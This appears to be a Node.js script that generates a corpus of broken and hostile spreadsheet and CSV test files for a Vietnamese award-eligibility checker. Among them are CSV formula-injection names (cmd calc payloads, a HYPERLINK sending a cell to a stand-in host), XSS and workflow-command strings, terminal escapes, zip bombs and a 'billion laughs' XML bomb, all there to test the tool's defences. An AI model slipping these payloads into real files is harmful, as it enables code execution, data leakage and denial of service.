// Writes fixtures/bad/ (or the folder given as argument): one file for each way a submission goes wrong (or arrives odd but readable),
// and fixtures/bad/expected.json, the answer the tool must give for each: `node scripts/make-bad-fixtures.mjs`.
// No file here is edited by hand; re-running gives the same bytes. test/bad-corpus.test.ts runs
// `eligibility check` on every entry of the table and holds it to its exit code, finding code and
// message, in Vietnamese and in English.
//
// The one nominee the readable files hold, Lò Thị Mai, is eligible by DOMAIN.md §3 (CN-HCSN-1 path
// A: HTXSNV in 2018 and 2019 and SK-T:2018; CN-HCSN-2: Có), so a readable file exits 0 unless the
// entry says otherwise.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { workbookBytes } from './lib/forms.mjs';
import { cfb, noise, windows1258, zip } from './lib/office-files.mjs';

/** `fixtures/bad/`, or the folder given (the test regenerates the corpus elsewhere to compare). */
const OUT = process.argv[2]
  ? path.resolve(process.argv[2])
  : path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'bad');
const FIXED_DATE = new Date(Date.UTC(2020, 3, 20, 8, 0, 0));
const MB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// The nominee

const HEADERS = [
  'Loại',
  'Họ và tên',
  'Năm sinh',
  'Đơn vị đề nghị',
  'Khối',
  'Lãnh đạo từ cấp phòng trở lên',
  '2016',
  '2017',
  '2018',
  '2019',
  '2020',
  'Khen thưởng',
  'Sáng kiến',
  'XN phẩm chất chính trị',
];
const MAI = [
  'Cá nhân',
  'Lò Thị Mai',
  '1985',
  'Phong Thổ',
  'HCSN',
  'Không',
  'LĐTT',
  'LĐTT',
  'HTXSNV',
  'HTXSNV',
  'LĐTT',
  'BK-UBND:2019',
  'SK-T:2018',
  'Có',
];

/** CSV text as Excel writes it: CRLF, fields quoted only when they must be. */
function csv(rows, delimiter = ',') {
  const field = (v) => {
    const s = String(v ?? '');
    return /["\r\n]/.test(s) || s.includes(delimiter) ? `"${s.replaceAll('"', '""')}"` : s;
  };
  return `${rows.map((r) => r.map(field).join(delimiter)).join('\r\n')}\r\n`;
}

const MAI_CSV = csv([HEADERS, MAI]);

/**
 * Names as an attacker would write them (OWASP CSV injection, HTML and Markdown markup, a
 * GitHub workflow command): each must come out of every report as the text it is.
 */
const UNITS = ['Phong Thổ', 'Tam Đường', 'Sìn Hồ', 'Tân Uyên', 'Than Uyên', 'Nậm Nhùn', 'Mường Tè'];
const INJECTIONS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Lò Thị Mai")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '<img src=x onerror=alert(1)>Lò Văn Tâm',
  '[Lò Thị Hoa](javascript:alert(1)) | **x**',
  'Tẩn Thị Mẩy ::error file=evil.txt::pwned %0A::warning::x',
];

// ---------------------------------------------------------------------------------------------
// Workbooks, with every date fixed so the bytes do not change between runs

/** @param {(workbook: import('exceljs').Workbook) => void} fill */
function workbook(fill) {
  return workbookBytes('eligibility', FIXED_DATE, fill);
}

/** A `Cá nhân` sheet with the official headers (no `Loại`) and the given rows after them. */
function individuals(wb, rows, name = 'Cá nhân') {
  const ws = wb.addWorksheet(name);
  ws.addRow(HEADERS.slice(1));
  for (const row of rows) ws.addRow(row);
  return ws;
}

const MAI_ROW = MAI.slice(1);

/** Where an entry's compressed data starts in a zip, by its local header. */
function dataOffset(bytes, name) {
  const at = bytes.indexOf(Buffer.from(name)) - 30;
  if (at < 0 || bytes.readUInt32LE(at) !== 0x04034b50) throw new Error(`no local header for ${name}`);
  return at + 30 + bytes.readUInt16LE(at + 26) + bytes.readUInt16LE(at + 28);
}

const GOOD = await workbook((wb) => individuals(wb, [MAI_ROW]));

/** What makes a zip a workbook, for zips built by hand. */
const WORKBOOK_PARTS = [
  { name: '[Content_Types].xml', data: '<Types/>' },
  { name: 'xl/workbook.xml', data: '<workbook/>' },
];

const OOXML = 'http://schemas.openxmlformats.org';
const REL = `${OOXML}/officeDocument/2006/relationships`;
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** The fewest parts an xlsx needs, written out, for workbooks whose XML is the point. */
function minimalXlsx(sheetData, sharedStrings) {
  const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  return zip([
    {
      name: '[Content_Types].xml',
      data: `${XML_HEAD}<Types xmlns="${OOXML}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${types}.sharedStrings+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      data: `${XML_HEAD}<Relationships xmlns="${OOXML}/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      data: `${XML_HEAD}<workbook xmlns="${OOXML}/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="Cá nhân" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: `${XML_HEAD}<Relationships xmlns="${OOXML}/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    },
    { name: 'xl/sharedStrings.xml', data: sharedStrings },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: `${XML_HEAD}<worksheet xmlns="${OOXML}/spreadsheetml/2006/main"><sheetData>${sheetData}</sheetData></worksheet>`,
    },
  ]);
}

/** "Billion laughs": ten entities each ten times the one before, 12 GB if a parser expanded them. */
const ENTITY_BOMB = (() => {
  let dtd = '<!DOCTYPE sst [<!ENTITY l0 "LOLLOLLOLLOL">';
  for (let i = 1; i < 10; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
  return `<?xml version="1.0" encoding="UTF-8"?>\n${dtd}]>\n<sst xmlns="${OOXML}/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>`;
})();

// ---------------------------------------------------------------------------------------------
// The corpus: file name → bytes, with what the tool must answer

const SAVE_AS = { vi: 'Lưu lại dưới dạng .xlsx', en: 'Save it as .xlsx' };

/**
 * `exit`: the exit code; `code`: a finding the run must report (on stderr for exit 2, in the JSON
 * report otherwise); `message`: a part of that finding's line in each language. An entry
 * without `code` must give no error and no warning at all.
 */
const corpus = [
  {
    file: 'empty.xlsx',
    why: 'a file of 0 bytes, as left by a failed copy',
    bytes: Buffer.alloc(0),
    exit: 2,
    code: 'E-FILE-EMPTY',
    message: { vi: 'Tệp trống', en: 'The file is empty' },
  },
  {
    file: 'blank.csv',
    why: 'a CSV with a BOM and blank lines of delimiters, nothing else',
    bytes: Buffer.from('\uFEFF;;;\r\n\r\n;;;\r\n'),
    exit: 2,
    code: 'E-FILE-EMPTY',
    message: { vi: 'không có dữ liệu', en: 'holds no data' },
  },
  {
    file: 'truncated.xlsx',
    why: 'a workbook cut short, as by a download that did not finish',
    bytes: GOOD.subarray(0, Math.floor(GOOD.length * 0.6)),
    exit: 2,
    code: 'E-FILE-CORRUPT',
    message: { vi: 'bị hỏng hoặc không trọn vẹn', en: 'damaged or incomplete' },
  },
  {
    file: 'bit-rot.xlsx',
    why: "a workbook whose sheet's compressed bytes were overwritten",
    bytes: (() => {
      const bytes = Buffer.from(GOOD);
      bytes.fill(
        0,
        dataOffset(bytes, 'xl/worksheets/sheet1.xml') + 16,
        dataOffset(bytes, 'xl/worksheets/sheet1.xml') + 40,
      );
      return bytes;
    })(),
    exit: 2,
    code: 'E-FILE-CORRUPT',
    message: { vi: 'Mở bằng Excel rồi lưu lại', en: 'Open it in Excel and save it again' },
  },
  {
    file: 'excel-97.xls',
    why: 'an Excel 97–2003 workbook (an OLE compound file with a Workbook stream)',
    bytes: cfb([
      { name: 'Workbook', data: Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]) },
      { name: '\u0005SummaryInformation', data: noise(200, 2) },
    ]),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: SAVE_AS.vi, en: 'an Excel 97–2003 workbook (.xls)' },
  },
  {
    file: 'password.xlsx',
    why: 'a password-protected workbook: Excel keeps it in a compound file with EncryptionInfo',
    bytes: cfb([
      {
        name: 'EncryptionInfo',
        data: Buffer.concat([Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]), noise(500, 3)]),
      },
      { name: 'EncryptedPackage', data: noise(9000, 4) },
    ]),
    exit: 2,
    code: 'E-FORMAT-ENCRYPTED',
    message: { vi: 'bỏ mật khẩu', en: 'remove the password' },
  },
  {
    file: 'libreoffice.ods',
    why: 'an OpenDocument spreadsheet, saved by LibreOffice',
    bytes: zip([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
      { name: 'content.xml', data: '<office:document-content/>' },
      { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' },
    ]),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: 'OpenDocument (.ods)', en: SAVE_AS.en },
  },
  {
    file: 'word.xlsx',
    why: 'a Word document renamed .xlsx',
    bytes: zip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'word/document.xml', data: '<w:document/>' },
    ]),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: 'văn bản Word (.docx)', en: 'a Word document (.docx)' },
  },
  {
    file: 'scan.pdf',
    why: 'a PDF of the signed list instead of the spreadsheet',
    bytes: Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'), noise(300, 5)]),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: 'tài liệu PDF', en: 'a PDF document' },
  },
  {
    file: 'photo.xlsx',
    why: 'a photo of the list, named .xlsx',
    bytes: Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
      Buffer.from('JFIF'),
      noise(300, 6),
    ]),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: 'ảnh (JPEG)', en: 'an image (JPEG)' },
  },
  {
    file: 'web-export.xls',
    why: 'an HTML table that other software exports under an .xls name',
    bytes: Buffer.from(
      `\uFEFF<html><head><meta charset="utf-8"></head><body><table><tr>${HEADERS.map((h) => `<td>${h}</td>`).join('')}</tr></table></body></html>`,
    ),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: 'trang web HTML', en: 'an HTML page' },
  },
  {
    file: 'random.csv',
    why: 'bytes that are no text at all',
    bytes: noise(2000, 7),
    exit: 2,
    code: 'E-FORMAT',
    message: { vi: 'tệp nhị phân', en: 'a binary file' },
  },
  {
    file: 'csv-named.xlsx',
    why: 'a CSV saved under an .xlsx name: read as CSV, said once',
    bytes: Buffer.from(MAI_CSV),
    exit: 0,
    code: 'I-FORMAT-RENAMED',
    message: { vi: 'thực ra là tệp văn bản CSV', en: 'is really a CSV text file' },
  },
  {
    file: 'xlsx-named.csv',
    why: 'a workbook saved under a .csv name: read as a workbook, said once',
    bytes: GOOD,
    exit: 0,
    code: 'I-FORMAT-RENAMED',
    message: { vi: 'thực ra là bảng tính .xlsx', en: 'is really an .xlsx workbook' },
  },
  {
    file: 'no-nominee-sheet.xlsx',
    why: 'a workbook whose only sheet is "Sheet1" without a Loại column',
    bytes: await workbook((wb) => {
      const ws = wb.addWorksheet('Sheet1');
      ws.addRow(['Họ và tên', 'Đơn vị']);
      ws.addRow(['Lò Thị Mai', 'Phong Thổ']);
    }),
    exit: 2,
    code: 'E-SHEET-MISSING',
    message: { vi: '"Sheet1"', en: 'Name the nominee sheet' },
  },
  {
    file: 'headers-only.xlsx',
    why: 'the form sent back with no nominee: an empty submission, never "all eligible"',
    bytes: await workbook((wb) => individuals(wb, [])),
    exit: 1,
    code: 'E-EMPTY-SUBMISSION',
    message: { vi: 'gửi nhầm tệp mẫu trống', en: 'blank template was sent' },
  },
  {
    file: 'missing-column.csv',
    why: 'the Khối column left out',
    bytes: Buffer.from(
      csv([HEADERS.filter((h) => h !== 'Khối'), MAI.filter((_, i) => HEADERS[i] !== 'Khối')]),
    ),
    exit: 2,
    code: 'E-HEADER-MISSING',
    message: { vi: '"Khối"', en: '"Khối"' },
  },
  {
    file: 'zip-bomb.xlsx',
    why: 'about 20 KB that would unpack to 250 MB: one 10 MB sheet listed 25 times',
    bytes: zip([
      ...WORKBOOK_PARTS,
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(10 * MB, 0x20) },
      ...Array.from({ length: 24 }, (_, i) => ({
        name: `xl/worksheets/sheet${i + 2}.xml`,
        sameDataAs: 'xl/worksheets/sheet1.xml',
      })),
    ]),
    exit: 2,
    code: 'E-LIMIT-SIZE',
    message: { vi: 'hơn 200 MB', en: 'more than 200 MB' },
  },
  {
    file: 'zip-bomb-lying.xlsx',
    why: 'a sheet that says it holds 1 KB and inflates to 60 MB: stopped at the 1 KB',
    bytes: zip([
      ...WORKBOOK_PARTS,
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(60 * MB, 0x20), declaredSize: 1024 },
    ]),
    exit: 2,
    code: 'E-FILE-CORRUPT',
    message: { vi: 'bị hỏng', en: 'damaged' },
  },
  {
    file: 'xml-entity-bomb.xlsx',
    why: 'shared strings whose DTD would expand to 12 GB ("billion laughs"): never expanded',
    bytes: minimalXlsx(
      `<row r="1">${HEADERS.slice(1)
        .map((h, i) => `<c r="${String.fromCharCode(65 + i)}1" t="inlineStr"><is><t>${h}</t></is></c>`)
        .join('')}</row><row r="2"><c r="A2" t="s"><v>0</v></c></row>`,
      ENTITY_BOMB,
    ),
    exit: 2,
    code: 'E-FILE-CORRUPT',
    message: { vi: 'bị hỏng', en: 'damaged' },
  },
  {
    file: 'many-rows.csv',
    args: ['--max-rows', '50'],
    why: '60 rows against a bound of 50',
    bytes: Buffer.from(
      csv([
        HEADERS,
        ...Array.from({ length: 60 }, (_, i) => [...MAI.slice(0, 1), `Người ${i + 1}`, ...MAI.slice(2)]),
      ]),
    ),
    exit: 2,
    code: 'E-LIMIT-ROWS',
    message: { vi: '--max-rows', en: 'More than 50 rows' },
  },
  {
    file: 'many-cells.xlsx',
    args: ['--max-cells', '100'],
    why: 'a sheet of 30 rows of 13 cells against a bound of 100 cells',
    bytes: await workbook((wb) =>
      individuals(
        wb,
        Array.from({ length: 30 }, (_, i) => [`Người ${i + 1}`, ...MAI_ROW.slice(1)]),
      ),
    ),
    exit: 2,
    code: 'E-LIMIT-CELLS',
    message: { vi: '--max-cells', en: 'more than 100 cells' },
  },
  {
    file: 'long-cell.xlsx',
    args: ['--max-cell-length', '1000'],
    why: 'a 5000-character note in Khen thưởng against a bound of 1000',
    bytes: await workbook((wb) =>
      individuals(wb, [[...MAI_ROW.slice(0, 10), 'BK-UBND:2019 '.repeat(385), ...MAI_ROW.slice(11)]]),
    ),
    exit: 2,
    code: 'E-LIMIT-CELL-LENGTH',
    message: { vi: 'dài hơn 1000 ký tự', en: 'longer than 1000 characters' },
  },
  {
    file: 'unclosed-quote.csv',
    why: 'a quote opened and never closed: said at once, naming the cell where it opened, before the rest of the file becomes one cell',
    bytes: Buffer.from(
      `${csv([HEADERS])}Cá nhân,"Lò Thị Mai,1985\r\n${csv(Array.from({ length: 200 }, () => MAI))}`,
    ),
    exit: 2,
    code: 'E-CSV-QUOTE',
    message: { vi: 'Dấu ngoặc kép mở ô B2 ở dòng 2', en: 'The quote opening cell B2 on line 2' },
  },
  {
    file: 'windows-1258.csv',
    why: "Excel's plain CSV on a Vietnamese Windows: decoded, said once",
    bytes: windows1258(MAI_CSV),
    exit: 0,
    code: 'I-ENCODING',
    message: { vi: 'mã hoá Windows-1258', en: 'in Windows-1258' },
  },
  {
    file: 'tcvn3.csv',
    why: 'a CSV in TCVN3 (the .VnTime fonts), which would read as "Hä vµ tªn": refused, not garbled',
    bytes: Buffer.concat([
      Buffer.from('Lo\xb9i,H\xe4 v\xb5 t\xaan\r\nC\xb8 nh\xe2n,L\xdf Th\xfe Mai\r\n', 'latin1'),
    ]),
    exit: 2,
    code: 'E-ENCODING',
    message: { vi: 'TCVN3', en: 'CSV UTF-8' },
  },
  {
    file: 'unicode-text.csv',
    why: 'Excel\'s "Unicode Text": UTF-16 with a BOM, tab-delimited',
    bytes: Buffer.from(`\uFEFF${csv([HEADERS, MAI], '\t')}`, 'utf16le'),
    exit: 0,
  },
  {
    file: 'utf16-big-endian.csv',
    why: 'UTF-16 big-endian with a BOM',
    bytes: Buffer.from(`\uFEFF${MAI_CSV}`, 'utf16le').swap16(),
    exit: 0,
  },
  {
    file: 'excel-semicolon.csv',
    why: 'CSV UTF-8 from Excel with Vietnamese regional settings: a BOM and `;`',
    bytes: Buffer.from(`\uFEFF${csv([HEADERS, MAI], ';')}`),
    exit: 0,
  },
  {
    file: 'typed-input.csv',
    why: 'NFD letters from an old input method, non-breaking and zero-width spaces, mixed case',
    bytes: Buffer.from(
      csv([
        HEADERS.map((h) => h.toUpperCase().normalize('NFD')),
        [
          'cá\u00a0NHÂN',
          'Lò\u200b Thị\u00a0Mai',
          '1985',
          'phong thổ',
          ' hcsn ',
          'KHÔNG',
          'lđtt',
          'LĐTT\u200d',
          'htxsnv',
          'HTXSNV',
          'LĐTT',
          'bk-ubnd: 2019',
          'SK-T (2018)',
          'có',
        ].map((v) => v.normalize('NFD')),
      ]),
    ),
    exit: 0,
  },
  {
    file: 'formula-no-result.xlsx',
    why: 'a year cell holding a formula whose result the file does not store (written by a program)',
    bytes: await workbook((wb) => {
      const ws = individuals(wb, [MAI_ROW]);
      ws.getCell('K2').value = { formula: 'J2' };
    }),
    exit: 1,
    code: 'E-FORMULA-NO-RESULT',
    message: { vi: '=J2', en: 'the formula =J2' },
  },
  {
    file: 'hidden-rows.xlsx',
    why: 'a nominee in a hidden row: still judged, with a warning',
    bytes: await workbook((wb) => {
      const ws = individuals(wb, [MAI_ROW, ['Lò Văn Tâm', ...MAI_ROW.slice(1)]]);
      ws.getRow(3).hidden = true;
    }),
    exit: 0,
    code: 'W-ROWS-HIDDEN',
    message: { vi: 'vẫn được xét: 3', en: 'still judged: 3' },
  },
  {
    file: 'duplicate-header.csv',
    why: 'Khối twice, HCSN in one and SXKD in the other: the verdict would depend on the copy read, so refused naming both',
    bytes: Buffer.from(
      csv([
        [...HEADERS, 'Khối'],
        [...MAI, 'SXKD'],
      ]),
    ),
    exit: 2,
    code: 'E-HEADER-CONFLICT',
    message: { vi: 'Cột E ("Khối") và cột O ("Khối")', en: 'Columns E ("Khối") and O ("Khối")' },
  },
  {
    file: 'duplicate-header-same.csv',
    why: 'Khối twice, saying the same: the first is used, with a warning',
    bytes: Buffer.from(
      csv([
        [...HEADERS, 'Khối'],
        [...MAI, 'HCSN'],
      ]),
    ),
    exit: 0,
    code: 'W-HEADER-DUPLICATE',
    message: { vi: 'dùng cột E', en: 'column E is used' },
  },
  {
    file: 'year-typed-as-date.xlsx',
    why: 'the birth year and the 2016 header typed into date-formatted cells (Excel shows 1905 dates)',
    bytes: await workbook((wb) => {
      const ws = individuals(wb, [MAI_ROW]);
      const serial = (n) => new Date(Date.UTC(1899, 11, 30) + n * 86_400_000);
      ws.getCell('F1').value = serial(2016);
      ws.getCell('F1').numFmt = 'dd/mm/yyyy';
      ws.getCell('B2').value = serial(1985);
      ws.getCell('B2').numFmt = 'dd/mm/yyyy';
    }),
    exit: 0,
  },
  {
    file: 'formula-injection.csv',
    why: 'names a spreadsheet would run as formulas, or a browser as markup, all to review: read as text, inert in every report',
    bytes: Buffer.from(
      csv([
        HEADERS,
        // one per unit, so that no quota is exceeded; conduct left blank, so that every report
        // lists them (review), and a code cell holding a formula, so that a finding quotes one
        ...INJECTIONS.map((name, i) => [
          'Cá nhân',
          name,
          String(1980 + i),
          UNITS[i],
          ...MAI.slice(4, 11),
          i === 0 ? '=1+2' : MAI[11],
          MAI[12],
          '',
        ]),
      ]),
    ),
    exit: 1,
    code: 'W-CODE-UNKNOWN',
    message: { vi: '"=1+2"', en: '"=1+2"' },
  },
  {
    file: 'control-characters.xlsx',
    why: 'terminal escapes and a bell in a name, a unit and a code (Excel stores them as _x001B_): dropped on reading',
    bytes: await workbook((wb) =>
      individuals(wb, [
        [
          'Lò\u001b[31m Thị\u0007 Mai\u001b]0;pwned\u0007',
          '1985',
          'Phong\u0007 Thổ',
          ...MAI_ROW.slice(3, 5),
          'LĐTT\u0008',
          ...MAI_ROW.slice(6),
        ],
      ]),
    ),
    exit: 0,
  },
];

/** Several files at once: the unreadable one becomes an error finding and the rest are checked. */
const together = [
  {
    files: ['excel-97.xls', 'excel-semicolon.csv'],
    why: 'an .xls among readable files',
    exit: 1,
    code: 'E-FORMAT',
    message: { vi: 'Excel 97–2003 (.xls)', en: 'an Excel 97–2003 workbook (.xls)' },
  },
  {
    files: ['zip-bomb.xlsx', 'csv-named.xlsx'],
    why: 'a zip bomb among readable files',
    exit: 1,
    code: 'E-LIMIT-SIZE',
    message: { vi: 'hơn 200 MB', en: 'more than 200 MB' },
  },
];

// ---------------------------------------------------------------------------------------------

// nothing is deleted: a file left over from an older corpus shows up in test/bad-corpus.test.ts
mkdirSync(OUT, { recursive: true });
const table = [];
for (const { file, bytes, ...answer } of corpus) {
  writeFileSync(path.join(OUT, file), bytes);
  table.push({ files: [file], ...answer, args: answer.args ?? [] });
}
for (const entry of together) table.push({ ...entry, args: [] });
writeFileSync(path.join(OUT, 'expected.json'), `${JSON.stringify(table, null, 2)}\n`);
process.stdout.write(
  `${corpus.length} files and ${table.length} expected answers in ${path.relative(process.cwd(), OUT)}\n`,
);
